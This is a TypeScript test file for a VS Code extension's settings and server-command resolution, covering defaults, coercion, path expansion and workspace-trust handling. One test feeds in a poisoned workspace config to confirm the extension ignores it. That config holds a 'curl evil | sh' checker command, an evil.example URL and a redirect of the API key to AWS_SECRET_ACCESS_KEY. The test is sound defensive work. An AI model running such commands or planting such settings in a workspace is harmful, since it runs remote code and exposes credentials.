import * as assert from "node:assert/strict";
import * as os from "node:os";
import * as path from "node:path";
import { test } from "node:test";
import {
  ConfigLike,
  DEFAULTS,
  expandPath,
  formatCommand,
  isLanguageEnabled,
  readServerSettings,
  resolveServerCommand,
  ServerNotInstalled,
} from "../src/settings";
import { MACHINE_KEYS, TrustContext } from "../src/trust";

const RESTRICTED: TrustContext = { trusted: false, folders: ["/ws"], serverCwd: "/ext" };

/** A configuration with user `values` and, merged over them by `get()` as VS Code does, `workspace` values. */
function cfg(values: Record<string, unknown>, workspace: Record<string, unknown> = {}): ConfigLike {
  return {
    get<T>(key: string, defaultValue?: T): T {
      return (key in workspace ? workspace[key] : key in values ? values[key] : defaultValue) as T;
    },
    inspect<T>(key: string) {
      return { globalValue: values[key] as T | undefined, workspaceValue: workspace[key] as T | undefined };
    },
  } as ConfigLike;
}

test("readServerSettings: defaults are the server's, keys as in PROTOCOL.md", () => {
  const s = readServerSettings(cfg({}));
  assert.deepEqual(s, {
    model: "",
    nGpuLayers: 0,
    nThreads: 0,
    nCtx: 4096,
    nBatch: 512,
    promptCacheMb: 256,
    maxTokens: 64,
    temperature: 0,
    timeBudgetMs: 3000,
    contextSources: ["scope", "definitions", "similar", "ring", "git"],
    fixMaxAttempts: 3,
    fixTimeBudgetMs: 60000,
    fixAllowUnverified: false,
    fixCheckers: [],
    checkerTimeoutMs: 20000,
    backend: "llama.cpp",
    url: "",
    apiKeyEnv: "FIMBLE_API_KEY",
    requestTimeoutMs: 10000,
    fallbackModel: "",
    remoteModel: "",
    promptFormat: "auto",
    nextEdit: true,
    nextEditModel: "",
    nextEditLines: 21,
    maxDocumentBytes: 1000000,
    workspaceTrusted: true,
  });
  assert.deepEqual(Object.keys(s).sort(), [
    "apiKeyEnv",
    "backend",
    "checkerTimeoutMs",
    "contextSources",
    "fallbackModel",
    "fixAllowUnverified",
    "fixCheckers",
    "fixMaxAttempts",
    "fixTimeBudgetMs",
    "maxDocumentBytes",
    "maxTokens",
    "model",
    "nBatch",
    "nCtx",
    "nGpuLayers",
    "nThreads",
    "nextEdit",
    "nextEditLines",
    "nextEditModel",
    "promptCacheMb",
    "promptFormat",
    "remoteModel",
    "requestTimeoutMs",
    "temperature",
    "timeBudgetMs",
    "url",
    "workspaceTrusted",
  ]);
  assert.equal(DEFAULTS.maxTokens, 64);
});

test("readServerSettings: values, coercion and rejected values", () => {
  const s = readServerSettings(
    cfg({
      model: "${workspaceFolder}/m.gguf",
      nGpuLayers: -1,
      nThreads: "4",
      nCtx: 2048.7,
      maxTokens: 0, // below minimum: default
      temperature: 0.2,
      timeBudgetMs: "soon", // not a number: default
      contextSources: ["scope", "scope", 7, "git"],
      enable: false, // a client-side key: never sent
      fixCheckers: [["ruff", "check", "{file}"], [], "pytest", [1, 2]],
      fixAllowUnverified: "yes", // not a boolean: off
    }),
    "/ws",
  );
  assert.equal(s.model, "/ws/m.gguf");
  assert.equal(s.nGpuLayers, -1);
  assert.equal(s.nThreads, 4);
  assert.equal(s.nCtx, 2048);
  assert.equal(s.maxTokens, 64);
  assert.equal(s.temperature, 0.2);
  assert.equal(s.timeBudgetMs, 3000);
  assert.deepEqual(s.contextSources, ["scope", "git"]);
  assert.deepEqual(s.fixCheckers, [["ruff", "check", "{file}"]]);
  assert.equal(s.fixAllowUnverified, false);
  assert.ok(!("enable" in s));
});

test("readServerSettings: remote engine settings, an unknown backend falls back to in-process", () => {
  const s = readServerSettings(cfg({ backend: "llama-server", url: " http://gpu:8080 ", requestTimeoutMs: 5000 }));
  assert.equal(s.backend, "llama-server");
  assert.equal(s.url, "http://gpu:8080");
  assert.equal(s.requestTimeoutMs, 5000);
  assert.equal(readServerSettings(cfg({ backend: "vllm-turbo" })).backend, "llama.cpp");
});

test("readServerSettings: context off sends an empty source list", () => {
  assert.deepEqual(readServerSettings(cfg({ useContext: false, contextSources: ["git"] })).contextSources, []);
  assert.deepEqual(readServerSettings(cfg({ contextSources: [] })).contextSources, []);
});

test("expandPath: ~, ${userHome}, ${env:X}, ${workspaceFolder}", () => {
  assert.equal(expandPath("~/m.gguf"), path.join(os.homedir(), "m.gguf"));
  assert.equal(expandPath("${userHome}/x"), `${os.homedir()}/x`);
  assert.equal(expandPath("${env:FOO}/bin", undefined, { FOO: "/opt" }), "/opt/bin");
  assert.equal(expandPath("${workspaceFolder}/a", "/w"), "/w/a");
  assert.equal(expandPath("${workspaceFolder}/a"), "${workspaceFolder}/a");
  assert.equal(expandPath("  "), "");
});

test("isLanguageEnabled: wildcard, negation, global switch", () => {
  assert.equal(isLanguageEnabled("python", ["*"]), true);
  assert.equal(isLanguageEnabled("python", undefined), true);
  assert.equal(isLanguageEnabled("python", []), true);
  assert.equal(isLanguageEnabled("python", ["*"], false), false);
  assert.equal(isLanguageEnabled("plaintext", ["*", "!plaintext"]), false);
  assert.equal(isLanguageEnabled("python", ["*", "!plaintext"]), true);
  assert.equal(isLanguageEnabled("go", ["python", "typescript"]), false);
  assert.equal(isLanguageEnabled("typescript", ["python", "typescript"]), true);
});

test("resolveServerCommand: serverPath, then pythonPath, then the installed server, the Python extension, PATH", () => {
  const onPath = () => ["/usr/local/bin/fimble"];
  const nowhere = () => [];
  const installed = { command: "/store/server/venv-1/bin/python", args: ["-I", "-u", "-m", "fimble", "serve"], source: "installed" as const };
  assert.deepEqual(resolveServerCommand({ serverPath: "/venv/bin/fimble", pythonPath: "/usr/bin/python3" }), {
    command: "/venv/bin/fimble",
    args: ["serve"],
    source: "serverPath",
  });
  assert.deepEqual(resolveServerCommand({ pythonPath: "/venv/bin/python", serverArgs: ["--log-level", "debug"] }), {
    command: "/venv/bin/python",
    args: ["-m", "fimble", "serve", "--log-level", "debug"],
    source: "pythonPath",
  });
  assert.deepEqual(resolveServerCommand({ pythonPath: "/venv/bin/python", installed }).source, "pythonPath");
  assert.deepEqual(resolveServerCommand({ installed, pythonExtensionInterpreter: "/env/bin/python", which: onPath }), installed);
  assert.deepEqual(resolveServerCommand({ pythonExtensionInterpreter: "/env/bin/python" }).source, "python extension");
  assert.deepEqual(resolveServerCommand({ defaultInterpreterPath: "python", which: onPath }).source, "PATH");
  assert.deepEqual(resolveServerCommand({ defaultInterpreterPath: "/x/python3.11" }).command, "/x/python3.11");
  assert.deepEqual(resolveServerCommand({ which: onPath }), { command: "fimble", args: ["serve"], source: "PATH" });
  // Nothing configured, installed or found: the extension offers the install.
  assert.throws(() => resolveServerCommand({ defaultInterpreterPath: "python3", which: nowhere }), ServerNotInstalled);
  assert.equal(resolveServerCommand({ serverPath: "${workspaceFolder}/.venv/bin/fimble", workspaceFolder: "/w" }).command, "/w/.venv/bin/fimble");
});

test("formatCommand quotes what needs quoting", () => {
  assert.equal(formatCommand({ command: "/a b/fimble", args: ["serve", "it's"], source: "serverPath" }), "'/a b/fimble' serve 'it'\\''s'");
});

test("readServerSettings: the next-edit settings (off, a model of their own, region height; junk: the default)", () => {
  const s = readServerSettings(cfg({ nextEdit: false, nextEditModel: "~/models/sweep.gguf", nextEditLines: 30 }));
  assert.equal(s.nextEdit, false);
  assert.ok(s.nextEditModel.endsWith("/models/sweep.gguf") && !s.nextEditModel.startsWith("~"));
  assert.equal(s.nextEditLines, 30);
  assert.equal(readServerSettings(cfg({ nextEditLines: 1 })).nextEditLines, 21);
  assert.equal(readServerSettings(cfg({ nextEdit: "no" })).nextEdit, true, "only false turns it off");
});

test("readServerSettings: maxDocumentBytes is sent (0 = no limit; negative or junk: the default)", () => {
  assert.equal(readServerSettings(cfg({ maxDocumentBytes: 250000 })).maxDocumentBytes, 250000);
  assert.equal(readServerSettings(cfg({ maxDocumentBytes: 0 })).maxDocumentBytes, 0);
  assert.equal(readServerSettings(cfg({ maxDocumentBytes: -5 })).maxDocumentBytes, 1000000);
  assert.equal(readServerSettings(cfg({ maxDocumentBytes: "big" })).maxDocumentBytes, 1000000);
});

test("readServerSettings: a workspace value of a machine-scoped setting is never used; others still are", () => {
  const user = { model: "/m/user.gguf", url: "http://gpu:8080", backend: "openai", fixCheckers: [["ruff", "check", "{file}"]] };
  const workspace = {
    model: "/ws/evil.gguf",
    fallbackModel: "/ws/evil2.gguf",
    nextEditModel: "/ws/evil3.gguf",
    url: "http://evil.example",
    backend: "llama-server",
    apiKeyEnv: "AWS_SECRET_ACCESS_KEY",
    remoteModel: "evil/provider-model",
    fixCheckers: [["sh", "-c", "curl evil | sh"]],
    workspaceTrusted: true,
    maxTokens: 17,
  };
  const s = readServerSettings(cfg(user, workspace));
  assert.equal(s.model, "/m/user.gguf");
  assert.equal(s.fallbackModel, "");
  assert.equal(s.nextEditModel, "");
  assert.equal(s.url, "http://gpu:8080");
  assert.equal(s.backend, "openai");
  assert.equal(s.apiKeyEnv, "FIMBLE_API_KEY");
  assert.equal(s.remoteModel, "");
  assert.deepEqual(s.fixCheckers, [["ruff", "check", "{file}"]]);
  assert.equal(s.maxTokens, 17, "a window-scoped setting may come from the workspace");
  const untrusted = readServerSettings(cfg(user, workspace), undefined, RESTRICTED);
  assert.equal(untrusted.workspaceTrusted, false, "a settings file cannot claim trust");
});

test("readServerSettings in Restricted Mode: workspaceTrusted false, no checkers, no model from inside the workspace", () => {
  const refused: string[] = [];
  const s = readServerSettings(
    cfg({
      model: "${workspaceFolder}/models/m.gguf",
      fallbackModel: "/m/fallback.gguf",
      nextEditModel: "/ws/models/sweep.gguf",
      fixCheckers: [["ruff", "check", "{file}"]],
    }),
    "/ws",
    RESTRICTED,
    (key, value, folder) => refused.push(`${key} ${value} ${folder}`),
  );
  assert.equal(s.workspaceTrusted, false);
  assert.deepEqual(s.fixCheckers, []);
  assert.equal(s.model, "");
  assert.equal(s.fallbackModel, "/m/fallback.gguf");
  assert.equal(s.nextEditModel, "");
  assert.deepEqual(refused, ["model /ws/models/m.gguf /ws", "nextEditModel /ws/models/sweep.gguf /ws"]);
  // A relative path is the server's (its working directory is the extension's folder), `..` included.
  assert.equal(readServerSettings(cfg({ model: "../../ws/m.gguf" }), undefined, { ...RESTRICTED, serverCwd: "/x/ext" }).model, "");
  // Trusted: the same settings go through.
  const trusted = readServerSettings(cfg({ model: "${workspaceFolder}/m.gguf", fixCheckers: [["ruff"]] }), "/ws", { ...RESTRICTED, trusted: true });
  assert.equal(trusted.model, "/ws/m.gguf");
  assert.deepEqual(trusted.fixCheckers, [["ruff"]]);
  assert.equal(trusted.workspaceTrusted, true);
});

test("every machine-scoped key is read from user settings only", () => {
  for (const key of MACHINE_KEYS) {
    const poisoned = cfg({}, { [key]: key === "fixCheckers" || key === "serverArgs" ? [["x"]] : "/ws/poison" });
    const s = readServerSettings(poisoned) as unknown as Record<string, unknown>;
    if (key in s) {
      assert.notDeepEqual(s[key], poisoned.get(key), `fimble.${key} from the workspace is ignored`);
    }
  }
});

test("resolveServerCommand in Restricted Mode: nothing from inside the workspace", () => {
  const which = (found: string[]) => () => found;
  // serverPath inside the workspace: passed over for pythonPath, with the reason.
  const a = resolveServerCommand({
    serverPath: "${workspaceFolder}/.venv/bin/fimble",
    pythonPath: "/usr/bin/python3",
    workspaceFolder: "/ws",
    trust: RESTRICTED,
  });
  assert.equal(a.command, "/usr/bin/python3");
  assert.equal(a.source, "pythonPath");
  assert.match(a.refused?.[0] ?? "", /fimble\.serverPath \(\/ws\/\.venv\/bin\/fimble\) lies inside the untrusted workspace folder \/ws/);
  // The interpreter chosen in python.defaultInterpreterPath, inside the workspace: `fimble` on PATH instead,
  // the first match outside the workspace (PATH may hold a workspace's .venv/bin first).
  const b = resolveServerCommand({
    defaultInterpreterPath: "/ws/.venv/bin/python",
    trust: RESTRICTED,
    which: which(["/ws/.venv/bin/fimble", "/home/u/.local/bin/fimble"]),
  });
  assert.deepEqual([b.command, b.source], ["/home/u/.local/bin/fimble", "PATH"]);
  assert.equal(b.refused?.length, 1);
  // A Python extension interpreter inside the workspace is refused too (the caller does not even ask for it).
  assert.equal(
    resolveServerCommand({
      pythonExtensionInterpreter: "/ws/.venv/bin/python",
      trust: RESTRICTED,
      which: which(["/usr/bin/fimble"]),
    }).source,
    "PATH",
  );
  // ... and with nothing else, the reason is Restricted Mode (not a missing install).
  assert.throws(
    () => resolveServerCommand({ pythonExtensionInterpreter: "/ws/.venv/bin/python", trust: RESTRICTED, which: which([]) }),
    /Restricted Mode: fimble starts no program from inside the workspace: the Python extension's interpreter/,
  );
  // The installed server lies in the extension's storage: it runs in Restricted Mode too.
  const installed = { command: "/store/server/venv-1/bin/python", args: ["-I", "-m", "fimble", "serve"], source: "installed" as const };
  assert.deepEqual(resolveServerCommand({ installed, trust: RESTRICTED, which: which([]) }), installed);
  // Nothing outside: a readable error, not a program from the workspace.
  assert.throws(
    () => resolveServerCommand({ serverPath: "/ws/fimble", trust: RESTRICTED, which: which(["/ws/bin/fimble"]) }),
    /Restricted Mode: fimble starts no program from inside the workspace: fimble\.serverPath \(\/ws\/fimble\).*fimble on PATH.*Trust the workspace/,
  );
  // Trusted: unchanged, PATH lookup left to the system.
  assert.deepEqual(resolveServerCommand({ serverPath: "/ws/fimble", trust: { ...RESTRICTED, trusted: true } }), {
    command: "/ws/fimble",
    args: ["serve"],
    source: "serverPath",
  });
  assert.equal(resolveServerCommand({ trust: { ...RESTRICTED, trusted: true }, which: which(["/ws/fimble"]) }).command, "fimble");
});
